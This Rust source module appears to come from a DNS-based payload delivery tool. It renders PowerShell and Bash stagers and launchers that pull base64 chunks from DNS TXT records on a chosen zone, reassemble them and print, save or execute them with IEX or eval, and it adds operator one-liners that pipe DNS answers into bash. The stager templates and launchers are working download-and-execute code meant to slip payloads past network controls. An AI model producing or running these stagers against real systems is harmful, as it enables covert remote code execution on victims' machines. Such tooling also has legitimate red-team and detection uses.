//! Stager generation
//!
//! For every catalog entry three client-side stagers are rendered, one per
//! [`Mode`], in the dialect of the configured [`Target`]. Each stager loops
//! over the file chunks (`<label>.<i>.<zone>`), concatenates the answers,
//! base64-decodes them and then prints, executes or saves the result. The
//! stager text is chunked like any file and served at
//! `<label>.<mode>.<i>.<zone>`.
//!
//! A short launcher per mode fetches those stager chunks and runs the stager.
//! It is served unchunked at `<label>.<zone>` and `<label>.<mode>.<zone>`.
//!
//! Templates are plain data keyed by `(target, mode)` with `{{name}}`
//! placeholders; values are escaped per target before substitution.

use serde::{Deserialize, Serialize};
use std::fmt;
use std::str::FromStr;

use base64::{engine::general_purpose::STANDARD as BASE64, Engine as _};

use crate::catalog::CatalogEntry;
use crate::chunk::{ChunkSize, Chunks};
use crate::CourierError;

/// Client runtime the stagers are written for
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Target {
    #[default]
    Powershell,
    Bash,
}

impl Target {
    pub fn as_str(&self) -> &'static str {
        match self {
            Target::Powershell => "powershell",
            Target::Bash => "bash",
        }
    }

    fn dialect(&self) -> &'static Dialect {
        match self {
            Target::Powershell => &POWERSHELL,
            Target::Bash => &BASH,
        }
    }

    /// Quote an arbitrary string so it is a single literal in this dialect
    fn quote(&self, value: &str) -> String {
        match self {
            // Inside a PowerShell double-quoted string
            Target::Powershell => value
                .chars()
                .flat_map(|c| match c {
                    '`' | '"' | '$' => vec!['`', c],
                    _ => vec![c],
                })
                .collect(),
            // A complete single-quoted shell word
            Target::Bash => format!("'{}'", value.replace('\'', r#"'\''"#)),
        }
    }
}

impl fmt::Display for Target {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for Target {
    type Err = CourierError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "powershell" => Ok(Target::Powershell),
            "bash" => Ok(Target::Bash),
            _ => Err(CourierError::UnsupportedTarget(s.to_string())),
        }
    }
}

/// What the stager does with the reassembled file
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Mode {
    Print,
    Exec,
    Save,
}

impl Mode {
    pub const ALL: [Mode; 3] = [Mode::Print, Mode::Exec, Mode::Save];

    pub fn as_str(&self) -> &'static str {
        match self {
            Mode::Print => "print",
            Mode::Exec => "exec",
            Mode::Save => "save",
        }
    }

    pub fn parse(s: &str) -> Option<Self> {
        match s {
            "print" => Some(Mode::Print),
            "exec" => Some(Mode::Exec),
            "save" => Some(Mode::Save),
            _ => None,
        }
    }

    fn slot(&self) -> usize {
        match self {
            Mode::Print => 0,
            Mode::Exec => 1,
            Mode::Save => 2,
        }
    }
}

impl fmt::Display for Mode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// How a rendered launcher is put on the wire
#[derive(Debug, Clone, Copy)]
enum LauncherEncoding {
    Plain,
    /// `echo <base64> | base64 -d`, so the answer can be piped to a shell
    EchoBase64,
}

/// Template set for one client runtime
struct Dialect {
    launcher: &'static str,
    launcher_encoding: LauncherEncoding,
    /// Indexed by `Mode::slot`
    stagers: [&'static str; 3],
    hints: &'static [(&'static str, &'static str)],
}

// Placeholders:
//   {{label}}       sanitized label
//   {{zone}}        zone domain
//   {{mode}}        stager mode
//   {{count}}       number of chunks to fetch
//   {{filename}}    original filename, quoted for the dialect
//   {{nameserver}}  nameserver FQDN

const POWERSHELL: Dialect = Dialect {
    launcher: r#"IEX([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String((1..{{count}}|%{Resolve-DnsName -ty TXT -na "{{label}}.{{mode}}.$_.{{zone}}"|Where-Object Section -eq Answer|Select -Exp Strings}))))"#,
    launcher_encoding: LauncherEncoding::Plain,
    stagers: [
        r#"[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String((1..{{count}}|%{do{$error.clear();Write-Host "[*] Resolving chunk $_/{{count}}";Resolve-DnsName -ty TXT -na "{{label}}.$_.{{zone}}"|Where-Object Section -eq Answer|Select -Exp Strings}until($error.count-eq0)})))"#,
        r#"IEX([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String((1..{{count}}|%{do{$error.clear();Write-Host "[*] Resolving chunk $_/{{count}}";Resolve-DnsName -ty TXT -na "{{label}}.$_.{{zone}}"|Where-Object Section -eq Answer|Select -Exp Strings}until($error.count-eq0)}))))"#,
        r#"[IO.File]::WriteAllBytes("$(Get-Location)\{{filename}}",[System.Convert]::FromBase64String((1..{{count}}|%{do{$error.clear();Write-Host "[*] Resolving chunk $_/{{count}}";Resolve-DnsName -ty TXT -na "{{label}}.$_.{{zone}}"|Where-Object Section -eq Answer|Select -Exp Strings}until($error.count-eq0)})))"#,
    ],
    hints: &[
        (
            "Resolve-DnsName",
            r#"Resolve-DnsName -ty TXT -na "{{label}}.{{mode}}.{{zone}}" | Select-Object -Exp Strings"#,
        ),
        ("nslookup", "nslookup -q=TXT {{label}}.{{mode}}.{{zone}} {{nameserver}}"),
    ],
};

const BASH: Dialect = Dialect {
    launcher: r#"eval $(echo $(for i in $(seq 1 {{count}}); do dig +short {{label}}.{{mode}}.$i.{{zone}} TXT | tr -d "\n"; done) | tr -d "\"" | base64 -d)"#,
    launcher_encoding: LauncherEncoding::EchoBase64,
    stagers: [
        r#"echo $(for i in $(seq 1 {{count}}); do dig +short {{label}}.$i.{{zone}} TXT | tr -d "\n"; done) | tr -d "\"" | base64 -d"#,
        r#"eval $(echo $(for i in $(seq 1 {{count}}); do dig +short {{label}}.$i.{{zone}} TXT | tr -d "\n"; done) | tr -d "\"" | base64 -d)"#,
        r#"echo $(for i in $(seq 1 {{count}}); do dig +short {{label}}.$i.{{zone}} TXT | tr -d "\n"; done) | tr -d "\"" | base64 -d > {{filename}}"#,
    ],
    hints: &[
        ("dig", "dig +short -t txt {{label}}.{{mode}}.{{zone}}"),
        (
            "one-liner",
            r#"eval $(dig +short -t txt {{label}}.{{mode}}.{{zone}} |tr -d "\"" | bash)"#,
        ),
    ],
};

/// Named values substituted into a template
#[derive(Debug, Default)]
struct Vars<'a> {
    values: Vec<(&'static str, std::borrow::Cow<'a, str>)>,
}

impl<'a> Vars<'a> {
    fn set(mut self, name: &'static str, value: impl Into<std::borrow::Cow<'a, str>>) -> Self {
        self.values.push((name, value.into()));
        self
    }

    /// Substitute every `{{name}}` placeholder; unknown names are left as-is
    fn render(&self, template: &str) -> String {
        let mut out = String::with_capacity(template.len() + 64);
        let mut rest = template;

        while let Some(start) = rest.find("{{") {
            out.push_str(&rest[..start]);
            let after = &rest[start + 2..];

            let replaced = after.find("}}").and_then(|end| {
                let name = &after[..end];
                self.values
                    .iter()
                    .find(|(key, _)| *key == name)
                    .map(|(_, value)| (value, end))
            });

            match replaced {
                Some((value, end)) => {
                    out.push_str(value);
                    rest = &after[end + 2..];
                }
                None => {
                    out.push_str("{{");
                    rest = after;
                }
            }
        }

        out.push_str(rest);
        out
    }
}

/// Settings shared by every generated stager
#[derive(Debug, Clone)]
pub struct StagerContext {
    pub target: Target,
    pub zone: String,
    pub nameserver: String,
    pub size: ChunkSize,
}

/// One rendered stager and its chunks
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StagerVariant {
    pub mode: Mode,
    pub script: String,
    pub chunks: Chunks,
    /// Launcher served for `<label>.<mode>`
    pub launcher: String,
}

/// The three stager variants of one catalog entry
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StagerSet {
    pub label: String,
    variants: [StagerVariant; 3],
}

impl StagerSet {
    /// Render, chunk and wrap the stagers for `entry`
    pub fn generate(entry: &CatalogEntry, ctx: &StagerContext) -> Self {
        let dialect = ctx.target.dialect();
        let file_chunks = entry.chunks.len().to_string();
        let filename = ctx.target.quote(&entry.original_name);

        let variants = Mode::ALL.map(|mode| {
            let script = Vars::default()
                .set("label", entry.label.as_str())
                .set("zone", ctx.zone.as_str())
                .set("count", file_chunks.as_str())
                .set("filename", filename.as_str())
                .render(dialect.stagers[mode.slot()]);

            let chunks = Chunks::encode(script.as_bytes(), ctx.size);

            let launcher = Vars::default()
                .set("label", entry.label.as_str())
                .set("zone", ctx.zone.as_str())
                .set("mode", mode.as_str())
                .set("count", chunks.len().to_string())
                .render(dialect.launcher);

            let launcher = match dialect.launcher_encoding {
                LauncherEncoding::Plain => launcher,
                LauncherEncoding::EchoBase64 => {
                    format!("echo {} | base64 -d", BASE64.encode(launcher))
                }
            };

            StagerVariant {
                mode,
                script,
                chunks,
                launcher,
            }
        });

        Self {
            label: entry.label.clone(),
            variants,
        }
    }

    pub fn variant(&self, mode: Mode) -> &StagerVariant {
        &self.variants[mode.slot()]
    }

    pub fn launcher(&self, mode: Mode) -> &str {
        &self.variant(mode).launcher
    }

    pub fn chunks(&self, mode: Mode) -> &Chunks {
        &self.variant(mode).chunks
    }

    pub fn iter(&self) -> impl Iterator<Item = &StagerVariant> {
        self.variants.iter()
    }
}

/// Client one-liners an operator can paste to pull `label` in every mode
///
/// Returns `(mode, tool, command)` triples.
pub fn lookup_hints(label: &str, ctx: &StagerContext) -> Vec<(Mode, &'static str, String)> {
    let dialect = ctx.target.dialect();

    Mode::ALL
        .iter()
        .flat_map(|mode| {
            dialect.hints.iter().map(move |(tool, template)| {
                let command = Vars::default()
                    .set("label", label)
                    .set("mode", mode.as_str())
                    .set("zone", ctx.zone.as_str())
                    .set("nameserver", ctx.nameserver.as_str())
                    .render(template);
                (*mode, *tool, command)
            })
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entry(name: &str, label: &str, payload: &[u8], size: ChunkSize) -> CatalogEntry {
        CatalogEntry {
            label: label.to_string(),
            original_name: name.to_string(),
            chunks: Chunks::encode(payload, size),
        }
    }

    fn ctx(target: Target, size: usize) -> StagerContext {
        StagerContext {
            target,
            zone: "example.com".to_string(),
            nameserver: "ns1.example.com".to_string(),
            size: ChunkSize::new(size).unwrap(),
        }
    }

    #[test]
    fn test_target_parsing() {
        assert_eq!("powershell".parse::<Target>().unwrap(), Target::Powershell);
        assert_eq!("bash".parse::<Target>().unwrap(), Target::Bash);
        assert!("cmd".parse::<Target>().is_err());
        assert!("Bash".parse::<Target>().is_err());
    }

    #[test]
    fn test_mode_parsing() {
        for mode in Mode::ALL {
            assert_eq!(Mode::parse(mode.as_str()), Some(mode));
        }
        assert_eq!(Mode::parse("run"), None);
        assert_eq!(Mode::parse("1"), None);
    }

    #[test]
    fn test_render_named_placeholders() {
        let vars = Vars::default().set("a", "1").set("b", "two");
        assert_eq!(vars.render("{{a}}-{{b}}-{{a}}"), "1-two-1");
        assert_eq!(vars.render("%{x}{{missing}}}"), "%{x}{{missing}}}");
        assert_eq!(vars.render("{{a"), "{{a");
    }

    #[test]
    fn test_powershell_stagers() {
        let ctx = ctx(Target::Powershell, 255);
        let entry = entry("payload.bin", "payload-bin", &[1, 2, 3, 4], ctx.size);
        let set = StagerSet::generate(&entry, &ctx);

        let print = &set.variant(Mode::Print).script;
        assert!(print.starts_with("[System.Text.Encoding]::UTF8.GetString("));
        assert!(print.contains("(1..1|%{do{"));
        assert!(print.contains(r#""[*] Resolving chunk $_/1""#));
        assert!(print.contains(r#""payload-bin.$_.example.com""#));
        assert!(!print.contains("{{"));

        let exec = &set.variant(Mode::Exec).script;
        assert!(exec.starts_with("IEX("));

        let save = &set.variant(Mode::Save).script;
        assert!(save.starts_with(r#"[IO.File]::WriteAllBytes("$(Get-Location)\payload.bin","#));

        // Every stager reassembles to its script
        for variant in set.iter() {
            assert_eq!(variant.chunks.reassemble().unwrap(), variant.script.as_bytes());
        }
    }

    #[test]
    fn test_powershell_launcher() {
        let ctx = ctx(Target::Powershell, 64);
        let entry = entry("payload.bin", "payload-bin", b"data", ctx.size);
        let set = StagerSet::generate(&entry, &ctx);

        let stager_chunks = set.chunks(Mode::Exec).len();
        assert!(stager_chunks > 1);

        let launcher = set.launcher(Mode::Exec);
        assert!(launcher.starts_with("IEX("));
        assert!(launcher.contains(&format!("(1..{}|%{{", stager_chunks)));
        assert!(launcher.contains(r#""payload-bin.exec.$_.example.com""#));
    }

    #[test]
    fn test_bash_stagers_and_launcher() {
        let ctx = ctx(Target::Bash, 255);
        let entry = entry("it's here.sh", "it-s-here-sh", b"echo hi", ctx.size);
        let set = StagerSet::generate(&entry, &ctx);

        assert_eq!(
            set.variant(Mode::Print).script,
            r#"echo $(for i in $(seq 1 1); do dig +short it-s-here-sh.$i.example.com TXT | tr -d "\n"; done) | tr -d "\"" | base64 -d"#
        );
        assert!(set.variant(Mode::Exec).script.starts_with("eval $(echo $("));
        assert!(set
            .variant(Mode::Save)
            .script
            .ends_with(r#"base64 -d > 'it'\''s here.sh'"#));

        let launcher = set.launcher(Mode::Save);
        let encoded = launcher
            .strip_prefix("echo ")
            .and_then(|rest| rest.strip_suffix(" | base64 -d"))
            .unwrap();
        let decoded = String::from_utf8(BASE64.decode(encoded).unwrap()).unwrap();
        assert_eq!(
            decoded,
            format!(
                r#"eval $(echo $(for i in $(seq 1 {}); do dig +short it-s-here-sh.save.$i.example.com TXT | tr -d "\n"; done) | tr -d "\"" | base64 -d)"#,
                set.chunks(Mode::Save).len()
            )
        );
    }

    #[test]
    fn test_powershell_filename_quoting() {
        assert_eq!(Target::Powershell.quote(r#"a"b$c`d"#), r#"a`"b`$c``d"#);
        assert_eq!(Target::Bash.quote("plain"), "'plain'");
    }

    #[test]
    fn test_generation_is_deterministic() {
        let ctx = ctx(Target::Powershell, 100);
        let entry = entry("x", "x", b"payload", ctx.size);
        assert_eq!(StagerSet::generate(&entry, &ctx), StagerSet::generate(&entry, &ctx));
    }

    #[test]
    fn test_lookup_hints() {
        let ps = lookup_hints("payload-bin", &ctx(Target::Powershell, 255));
        assert_eq!(ps.len(), 6);
        assert!(ps.contains(&(
            Mode::Save,
            "nslookup",
            "nslookup -q=TXT payload-bin.save.example.com ns1.example.com".to_string()
        )));

        let bash = lookup_hints("payload-bin", &ctx(Target::Bash, 255));
        assert!(bash.contains(&(
            Mode::Print,
            "dig",
            "dig +short -t txt payload-bin.print.example.com".to_string()
        )));
    }
}
